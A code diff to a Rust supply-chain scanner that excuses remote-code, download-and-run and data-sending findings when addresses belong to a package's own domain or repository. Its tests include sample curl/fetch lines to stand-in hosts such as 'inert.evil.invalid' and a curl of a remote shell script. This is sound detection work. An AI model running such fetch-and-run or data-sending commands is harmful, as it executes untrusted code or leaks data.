@@ -2,12 +2,18 @@
 //! itself under its own name. What a package says that it does is a matter for a person; the rest is judged as it is.
 
 use crate::analyze::script::{is_local, is_vendor};
-use crate::model::{Capability, FactKind, Finding};
+use crate::model::{Capability, FactKind, FileKind, Finding};
 use crate::package::repository::{Repository, is_code_host};
 use crate::package::{Member, Package, joined};
 
 /// Shortest name of a package that its own can be told by.
 const TELLING: usize = 5;
+
+/// What names say behind that of the maker: `maker-python-server-sdk`.
+const COMMON: &[&str] = &[
+    "api", "bindings", "cli", "client", "core", "driver", "js", "lib", "library", "native", "node", "nodejs",
+    "official", "plugin", "py", "python", "python3", "sdk", "server", "tools", "ts", "wrapper",
+];
 
 /// By what a package's own is known.
 #[derive(Debug, Default)]
@@ -29,7 +35,7 @@ impl<'a> Own<'a> {
         };
         let parts = name.trim_start_matches('@').split('/');
         Self {
-            names: parts.map(joined).filter(|part| part.len() >= TELLING).collect(),
+            names: parts.flat_map(|part| [joined(part), makers(part)]).filter(|part| part.len() >= TELLING).collect(),
             repositories: homes.iter().filter_map(|home| Repository::of(home)).collect(),
             npm: package.npm.map(|npm| (npm.name.as_str(), npm.version.as_str())),
         }
@@ -44,17 +50,23 @@ impl<'a> Own<'a> {
                 _ => None,
             })
             .collect();
-        self.is_from_domain(finding, &hosts) || self.is_from_repository(finding, &hosts, by_itself)
+        // What developers have their shells fetch and run is the commonest way to get a tool for a test.
+        let is_shell = member.is_command || member.analysis.kind == FileKind::Shell;
+        self.is_from_domain(finding, &hosts)
+            || (finding.rule.id != "flow-remote-code" || is_shell)
+                && self.is_from_repository(finding, &hosts, by_itself)
     }
 
     /// Whether all addresses that a flow was followed from, or to, and all others in its file, are at the domain with one of
     /// the package's names: `opencode-ai` and `opencode.ai`. Nobody else can put anything there.
     fn is_from_domain(&self, finding: &Finding, others: &[&str]) -> bool {
-        if self.names.is_empty()
-            || !matches!(finding.rule.id, "flow-download-run" | "flow-remote-code" | "flow-identity-sent")
-        {
+        const SENT: &[&str] = &["flow-identity-sent", "flow-output-sent"];
+        let is_sent = SENT.contains(&finding.rule.id);
+        if self.names.is_empty() || !is_sent && !matches!(finding.rule.id, "flow-download-run" | "flow-remote-code") {
             return false;
         }
+        // Of what is sent it is told where to.
+        let others = if is_sent { &[] } else { others };
         let mut hosts = addresses_of(finding).map(host_of).peekable();
         hosts.peek().is_some()
             && hosts.chain(others.iter().copied().filter(|host| !is_local(host))).all(|host| {
@@ -63,26 +75,33 @@ impl<'a> Own<'a> {
                 let at = labels.len().checked_sub(2).filter(|at| labels.get(*at).is_some_and(|l| l.len() > 3));
                 let label = at.or_else(|| labels.len().checked_sub(3)).and_then(|at| labels.get(at));
                 let whole = |n: &String| label.is_some_and(|l| joined(l) == *n);
-                self.names.iter().any(whole) || labels.len() == 2 && self.names.contains(&joined(host))
+                // `refine.dev` of `refinedev`: the name with its ending.
+                let registered = at.or_else(|| (labels.len() == 2).then_some(0)).and_then(|at| labels.get(at..));
+                self.names.iter().any(whole) || registered.is_some_and(|r| self.names.contains(&joined(&r.concat())))
             })
     }
 
     /// Whether a download was followed from what a repository's owner put there: the one that the package names as its own
     /// or, when somebody has to call for it, any. The file reaches no host but those of source code and of the makers of
-    /// languages.
+    /// languages. Code that is executed as it comes has to be of the same owner, and to be called for.
     fn is_from_repository(&self, finding: &Finding, others: &[&str], by_itself: bool) -> bool {
         let only_reports = finding.rule.id == "flow-calls-home";
-        if finding.rule.id != "flow-download-run" && !only_reports {
+        let is_code = finding.rule.id == "flow-remote-code";
+        if finding.rule.id != "flow-download-run" && !only_reports && !(is_code && !by_itself) {
             return false;
         }
         let is_theirs = |address: &str| {
             Repository::of(address).filter(Repository::is_of_its_owner).is_some_and(|repository| {
+                if is_code {
+                    return self.repositories.iter().any(|own| own.is_of(&repository));
+                }
                 self.repositories.iter().any(|own| own.is(&repository)) || !by_itself && !only_reports
             })
         };
         // Of an address that is handed from function to function only the host is known, by the file that has no other.
         let has_address = addresses_of(finding).next().is_some();
-        let has_host = others.iter().any(|host| is_code_host(host)) && !self.repositories.is_empty() && !only_reports;
+        let has_host =
+            others.iter().any(|host| is_code_host(host)) && !self.repositories.is_empty() && !only_reports && !is_code;
         (has_address || has_host)
             && addresses_of(finding).all(is_theirs)
             && others.iter().all(|host| is_code_host(host) || is_vendor(host) || is_local(host))
@@ -101,6 +120,15 @@ impl<'a> Own<'a> {
         };
         name.len() >= TELLING && words.clone().any(is_own) && words.all(|w| w.starts_with('-') || is_own(w))
     }
+}
+
+/// The words of a name before those that only say what sort of thing it is.
+fn makers(name: &str) -> String {
+    let mut words: Vec<&str> = name.split(['-', '_', '.']).collect();
+    while words.last().is_some_and(|w| COMMON.contains(&w.to_ascii_lowercase().as_str())) {
+        words.pop();
+    }
+    words.iter().copied().map(joined).collect()
 }
 
 /// The addresses in the evidence of a finding, from behind their schemes.
@@ -134,8 +162,25 @@ mod tests {
         };
         assert!(is(&["curl https://inert.invalid/i.sh"]) && is(&["curl https://get.inert.co.uk/i.sh", "bash"]));
         assert!(is(&["curl https://inert.ai/i.sh"]));
+        let scope = Own { names: vec!["inertdev".to_owned()], ..Own::default() };
+        let sent = |to: &str| scope.is_from_domain(&finding("flow-output-sent", &[to]), &["other.invalid"]);
+        assert!(sent("fetch https://telemetry.inert.dev/cli") && !sent("fetch https://inert.dev.evil.invalid/cli"));
         assert!(!is(&["curl https://inert.evil.invalid/i.sh"]) && !is(&["curl https://xinert.invalid/i.sh"]));
         assert!(!is(&["curl https://inert.invalid/i", "wget https://other.invalid/i"]) && !is(&["curl"]));
+    }
+
+    #[test]
+    fn makers_stand_before_what_they_make() {
+        for (name, maker) in [
+            ("inert_python_server_sdk", "inert"),
+            ("inert-sdk", "inert"),
+            ("inert-labs.client", "inertlabs"),
+            ("inert", "inert"),
+            ("python-inert", "pythoninert"),
+            ("python-sdk", ""),
+        ] {
+            assert_eq!(makers(name), maker, "{name}");
+        }
     }
 
     #[test]
@@ -149,12 +194,16 @@ mod tests {
         let of_others = "https.get https://api.github.com/repos/other/tool/releases/latest";
         assert!(met("flow-download-run", &["starts it", release], true, &["github.com", "127.0.0.1", "rustup.rs"]));
         assert!(met("flow-calls-home", &[release], true, &[]));
-        // Of another project only when somebody calls for it, and never with code that is executed or another host at hand.
+        // Of another project only when somebody calls for it, and never as code that is executed or with another host at hand.
         assert!(
             !met("flow-download-run", &[of_others], true, &[]) && met("flow-download-run", &[of_others], false, &[])
         );
         assert!(!met("flow-download-run", &[release, of_others], true, &[]));
-        assert!(!met("flow-calls-home", &[of_others], false, &[]) && !met("flow-remote-code", &[release], false, &[]));
+        assert!(!met("flow-calls-home", &[of_others], false, &[]) && !met("flow-remote-code", &[release], true, &[]));
+        let raw = "curl https://raw.githubusercontent.com/inert/harness/main/run.sh";
+        assert!(met("flow-remote-code", &[raw], false, &["raw.githubusercontent.com"]));
+        assert!(!met("flow-remote-code", &[raw], true, &[]) && !met("flow-remote-code", &[of_others], false, &[]));
+        assert!(!met("flow-remote-code", &["x"], false, &["github.com"]));
         assert!(met("flow-download-run", &["x"], true, &["github.com"]));
         assert!(!met("flow-download-run", &["x"], true, &["github.com", "h.invalid"]));
         assert!(
